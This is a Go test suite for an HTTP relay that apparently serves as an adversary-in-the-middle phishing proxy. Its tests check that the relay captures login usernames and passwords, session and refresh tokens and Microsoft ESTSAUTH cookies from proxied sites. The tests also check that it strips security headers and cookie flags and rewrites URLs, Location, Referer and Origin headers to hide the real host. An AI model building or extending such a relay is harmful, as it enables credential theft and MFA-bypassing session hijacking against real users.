package core

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

func newTestRelay(t *testing.T) (*HttpRelay, *httptest.Server) {
	t.Helper()
	cfg, err := NewConfig(t.TempDir(), "")
	if err != nil {
		t.Fatal(err)
	}
	relay, err := NewHttpRelay("127.0.0.1", 8020, cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	front := httptest.NewServer(relay.Server.Handler)
	t.Cleanup(front.Close)
	return relay, front
}

func registerUpstream(t *testing.T, relay *HttpRelay, id string, upstream *httptest.Server) *Target {
	t.Helper()
	u, err := url.Parse(upstream.URL)
	if err != nil {
		t.Fatal(err)
	}
	tgt, err := relay.RegisterTarget(&Target{
		Id:           id,
		TargetHost:   u.Host,
		TargetScheme: "http",
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := relay.Targets.Activate(id, 0); err != nil {
		t.Fatal(err)
	}
	return tgt
}

func noRedirectClient() *http.Client {
	return &http.Client{
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}
}

func TestRelayUnknownTarget(t *testing.T) {
	relay, front := newTestRelay(t)

	resp, err := http.Get(front.URL + "/nope/login")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("unknown target: got %d, want 404", resp.StatusCode)
	}

	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	defer upstream.Close()
	registerUpstream(t, relay, "idle", upstream)
	relay.Targets.Deactivate("idle")

	resp, err = http.Get(front.URL + "/idle/login")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("inactive target: got %d, want 404", resp.StatusCode)
	}
}

func TestRelayUpstreamUnreachable(t *testing.T) {
	relay, front := newTestRelay(t)
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	registerUpstream(t, relay, "dead", upstream)
	upstream.Close()

	resp, err := http.Get(front.URL + "/dead/login")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusBadGateway {
		t.Errorf("got %d, want 502", resp.StatusCode)
	}
}

func TestRelayCredentialCapture(t *testing.T) {
	relay, front := newTestRelay(t)
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
	}))
	defer upstream.Close()
	registerUpstream(t, relay, "t1", upstream)

	resp, err := http.Post(front.URL+"/t1/login", "application/x-www-form-urlencoded",
		strings.NewReader("username=admin&password=hunter2&csrf=tok"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()

	sessions := relay.Sessions.List("t1")
	if len(sessions) != 1 {
		t.Fatalf("expected 1 session, got %d", len(sessions))
	}
	creds := sessions[0].CredentialsCopy()
	if creds["username"] != "admin" || creds["password"] != "hunter2" {
		t.Errorf("credentials: %v", creds)
	}
	if _, ok := creds["csrf"]; ok {
		t.Error("csrf should not be captured with default patterns")
	}
}

func TestRelayCookieCapture(t *testing.T) {
	relay, front := newTestRelay(t)
	var host string
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Add("Set-Cookie", "sess=xyz; Domain="+host+"; Path=/; Secure; HttpOnly")
		w.WriteHeader(http.StatusOK)
	}))
	defer upstream.Close()
	tgt := registerUpstream(t, relay, "t1", upstream)
	host = tgt.TargetHost

	resp, err := http.Get(front.URL + "/t1/login")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()

	sessions := relay.Sessions.List("t1")
	if len(sessions) != 1 {
		t.Fatalf("expected 1 session, got %d", len(sessions))
	}
	if sessions[0].CookiesCopy()["sess"] != "xyz" {
		t.Errorf("cookie jar: %v", sessions[0].CookiesCopy())
	}

	var forwarded string
	for _, sc := range resp.Header.Values("Set-Cookie") {
		if strings.HasPrefix(sc, "sess=") {
			forwarded = sc
		}
	}
	if forwarded == "" {
		t.Fatal("sess cookie not forwarded to browser")
	}
	if strings.Contains(forwarded, "Domain=") || strings.Contains(strings.ToLower(forwarded), "secure") {
		t.Errorf("cookie not sanitized: %q", forwarded)
	}
}

func TestRelaySessionCookieStability(t *testing.T) {
	relay, front := newTestRelay(t)
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
	}))
	defer upstream.Close()
	registerUpstream(t, relay, "t1", upstream)

	resp, err := http.Get(front.URL + "/t1/login")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()

	var tracking string
	for _, c := range resp.Cookies() {
		if c.Name == DEFAULT_COOKIE_NAME {
			tracking = c.Value
		}
	}
	if tracking == "" {
		t.Fatal("tracking cookie not set")
	}

	req, _ := http.NewRequest("GET", front.URL+"/t1/account", nil)
	req.AddCookie(&http.Cookie{Name: DEFAULT_COOKIE_NAME, Value: tracking})
	resp2, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp2.Body.Close()

	if relay.Sessions.Count() != 1 {
		t.Errorf("expected 1 session, got %d", relay.Sessions.Count())
	}
	s, err := relay.Sessions.Get(tracking)
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Requests) != 2 {
		t.Errorf("request log: got %d entries", len(s.Requests))
	}
}

func TestRelayCacheSingleFetch(t *testing.T) {
	relay, front := newTestRelay(t)
	var hits int64
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		atomic.AddInt64(&hits, 1)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Write([]byte("<html><body>cached page</body></html>"))
	}))
	defer upstream.Close()
	registerUpstream(t, relay, "t1", upstream)

	for i := 0; i < 3; i++ {
		resp, err := http.Get(front.URL + "/t1/page")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("request %d: status %d", i, resp.StatusCode)
		}
	}
	if n := atomic.LoadInt64(&hits); n != 1 {
		t.Errorf("upstream fetched %d times within TTL, want 1", n)
	}
}

func TestRelayCacheSkipsSetCookieResponses(t *testing.T) {
	relay, front := newTestRelay(t)
	var hits int64
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		atomic.AddInt64(&hits, 1)
		w.Header().Add("Set-Cookie", "sess=per-visitor")
		w.Header().Set("Content-Type", "text/html")
		w.Write([]byte("<html></html>"))
	}))
	defer upstream.Close()
	registerUpstream(t, relay, "t1", upstream)

	for i := 0; i < 2; i++ {
		resp, err := http.Get(front.URL + "/t1/login")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	if n := atomic.LoadInt64(&hits); n != 2 {
		t.Errorf("cookie-setting response was cached: %d upstream fetches, want 2", n)
	}
}

func TestRelayBodyRewrite(t *testing.T) {
	relay, front := newTestRelay(t)
	var host string
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Write([]byte(`<a href="http://` + host + `/next">next</a>`))
	}))
	defer upstream.Close()
	tgt := registerUpstream(t, relay, "t1", upstream)
	host = tgt.TargetHost

	resp, err := http.Get(front.URL + "/t1/page")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	got := string(raw)
	if !strings.Contains(got, "http://127.0.0.1:8020/t1/next") {
		t.Errorf("body not rewritten: %q", got)
	}
	if strings.Contains(got, host) {
		t.Errorf("target host leaked: %q", got)
	}
}

func TestRelayLocationRewrite(t *testing.T) {
	relay, front := newTestRelay(t)
	var host string
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://"+host+"/dashboard", http.StatusFound)
	}))
	defer upstream.Close()
	tgt := registerUpstream(t, relay, "t1", upstream)
	host = tgt.TargetHost

	resp, err := noRedirectClient().Get(front.URL + "/t1/login")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusFound {
		t.Fatalf("status: %d", resp.StatusCode)
	}
	loc := resp.Header.Get("Location")
	if loc != "http://127.0.0.1:8020/t1/dashboard" {
		t.Errorf("location: %q", loc)
	}
}

func TestRelaySecurityHeadersStripped(t *testing.T) {
	relay, front := newTestRelay(t)
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Security-Policy", "default-src 'self'")
		w.Header().Set("Strict-Transport-Security", "max-age=63072000")
		w.Header().Set("X-Frame-Options", "DENY")
		w.WriteHeader(http.StatusOK)
	}))
	defer upstream.Close()
	registerUpstream(t, relay, "t1", upstream)

	resp, err := http.Get(front.URL + "/t1/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	for _, h := range []string{"Content-Security-Policy", "Strict-Transport-Security", "X-Frame-Options"} {
		if resp.Header.Get(h) != "" {
			t.Errorf("header %s not stripped", h)
		}
	}
}

func TestRelayAuthUrlDetection(t *testing.T) {
	relay, front := newTestRelay(t)
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
	}))
	defer upstream.Close()
	tgt := registerUpstream(t, relay, "t1", upstream)
	tgt.AuthUrls = []string{"/account/home"}

	resp, err := http.Get(front.URL + "/t1/login")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	var tracking string
	for _, c := range resp.Cookies() {
		if c.Name == DEFAULT_COOKIE_NAME {
			tracking = c.Value
		}
	}

	s, err := relay.Sessions.Get(tracking)
	if err != nil {
		t.Fatal(err)
	}
	if s.IsAuthenticated() {
		t.Fatal("session authenticated too early")
	}

	req, _ := http.NewRequest("GET", front.URL+"/t1/account/home", nil)
	req.AddCookie(&http.Cookie{Name: DEFAULT_COOKIE_NAME, Value: tracking})
	resp2, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp2.Body.Close()

	if !s.IsAuthenticated() {
		t.Fatal("auth url visit did not authenticate session")
	}
	first := s.AuthenticatedAt

	time.Sleep(5 * time.Millisecond)
	resp3, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp3.Body.Close()
	if s.AuthenticatedAt != first {
		t.Error("authenticated timestamp moved on repeat visit")
	}
}

func TestRelayTokenCookieRecorded(t *testing.T) {
	relay, front := newTestRelay(t)
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Add("Set-Cookie", "ESTSAUTH=abc; Path=/")
		w.Header().Add("Set-Cookie", "refresh_token=rt1; Path=/")
		w.Header().Add("Set-Cookie", "lang=en; Path=/")
		w.WriteHeader(http.StatusOK)
	}))
	defer upstream.Close()
	tgt := registerUpstream(t, relay, "t1", upstream)
	tgt.CaptureCookies = []string{"ESTSAUTH"}
	tgt.AuthTokens = []string{"refresh_token"}

	resp, err := http.Get(front.URL + "/t1/login")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()

	sessions := relay.Sessions.List("t1")
	if len(sessions) != 1 {
		t.Fatalf("expected 1 session, got %d", len(sessions))
	}
	tokens := sessions[0].TokensCopy()
	if tokens["ESTSAUTH"] != "abc" {
		t.Errorf("capture_cookies entry not in token map: %v", tokens)
	}
	if tokens["refresh_token"] != "rt1" {
		t.Errorf("auth_tokens entry not in token map: %v", tokens)
	}
	if _, ok := tokens["lang"]; ok {
		t.Errorf("unlisted cookie leaked into token map: %v", tokens)
	}
}

func TestRelayTokenRefreshAfterAuth(t *testing.T) {
	relay, front := newTestRelay(t)
	var serve int64
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n := atomic.AddInt64(&serve, 1)
		if n == 1 {
			w.Header().Add("Set-Cookie", "session_token=v1; Path=/")
		} else {
			w.Header().Add("Set-Cookie", "session_token=v2; Path=/")
		}
		w.WriteHeader(http.StatusOK)
	}))
	defer upstream.Close()
	tgt := registerUpstream(t, relay, "t1", upstream)
	tgt.AuthTokens = []string{"session_token"}

	resp, err := http.Get(front.URL + "/t1/login")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	var tracking string
	for _, c := range resp.Cookies() {
		if c.Name == DEFAULT_COOKIE_NAME {
			tracking = c.Value
		}
	}

	s, err := relay.Sessions.Get(tracking)
	if err != nil {
		t.Fatal(err)
	}
	if !s.IsAuthenticated() {
		t.Fatal("auth token cookie did not authenticate session")
	}
	if s.TokensCopy()["session_token"] != "v1" {
		t.Fatalf("tokens after first visit: %v", s.TokensCopy())
	}

	req, _ := http.NewRequest("GET", front.URL+"/t1/account", nil)
	req.AddCookie(&http.Cookie{Name: DEFAULT_COOKIE_NAME, Value: tracking})
	resp2, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp2.Body.Close()

	if s.TokensCopy()["session_token"] != "v2" {
		t.Errorf("refreshed token not recorded after authentication: %v", s.TokensCopy())
	}
}

func TestRelayCacheReplaysHeaders(t *testing.T) {
	relay, front := newTestRelay(t)
	var hits int64
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		atomic.AddInt64(&hits, 1)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Cache-Control", "no-store")
		w.Header().Set("X-Upstream-Build", "42")
		w.Write([]byte("<html></html>"))
	}))
	defer upstream.Close()
	registerUpstream(t, relay, "t1", upstream)

	for i := 0; i < 2; i++ {
		resp, err := http.Get(front.URL + "/t1/page")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.Header.Get("Cache-Control") != "no-store" {
			t.Errorf("request %d: Cache-Control missing", i)
		}
		if resp.Header.Get("X-Upstream-Build") != "42" {
			t.Errorf("request %d: X-Upstream-Build missing", i)
		}
	}
	if n := atomic.LoadInt64(&hits); n != 1 {
		t.Fatalf("upstream fetched %d times, want 1 (second response must come from cache)", n)
	}
}

func TestRelayTrackingCookieOnEveryResponse(t *testing.T) {
	relay, front := newTestRelay(t)
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
	}))
	defer upstream.Close()
	registerUpstream(t, relay, "t1", upstream)

	resp, err := http.Get(front.URL + "/t1/login")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	var tracking string
	for _, c := range resp.Cookies() {
		if c.Name == DEFAULT_COOKIE_NAME {
			tracking = c.Value
		}
	}
	if tracking == "" {
		t.Fatal("tracking cookie not set on first response")
	}

	req, _ := http.NewRequest("GET", front.URL+"/t1/account", nil)
	req.AddCookie(&http.Cookie{Name: DEFAULT_COOKIE_NAME, Value: tracking})
	resp2, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp2.Body.Close()

	var refreshed string
	for _, c := range resp2.Cookies() {
		if c.Name == DEFAULT_COOKIE_NAME {
			refreshed = c.Value
		}
	}
	if refreshed == "" {
		t.Fatal("tracking cookie missing on follow-up response")
	}
	if refreshed != tracking {
		t.Errorf("tracking cookie changed for existing session: %q != %q", refreshed, tracking)
	}
	if relay.Sessions.Count() != 1 {
		t.Errorf("expected 1 session, got %d", relay.Sessions.Count())
	}
}

func TestRelayReferersRestored(t *testing.T) {
	relay, front := newTestRelay(t)
	var got_referer, got_origin string
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got_referer = r.Header.Get("Referer")
		got_origin = r.Header.Get("Origin")
		w.WriteHeader(http.StatusOK)
	}))
	defer upstream.Close()
	tgt := registerUpstream(t, relay, "t1", upstream)

	req, _ := http.NewRequest("POST", front.URL+"/t1/login", strings.NewReader("a=b"))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Referer", "http://127.0.0.1:8020/t1/login")
	req.Header.Set("Origin", "http://127.0.0.1:8020")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()

	if got_referer != "http://"+tgt.TargetHost+"/login" {
		t.Errorf("referer: %q", got_referer)
	}
	if got_origin != "http://"+tgt.TargetHost {
		t.Errorf("origin: %q", got_origin)
	}
}
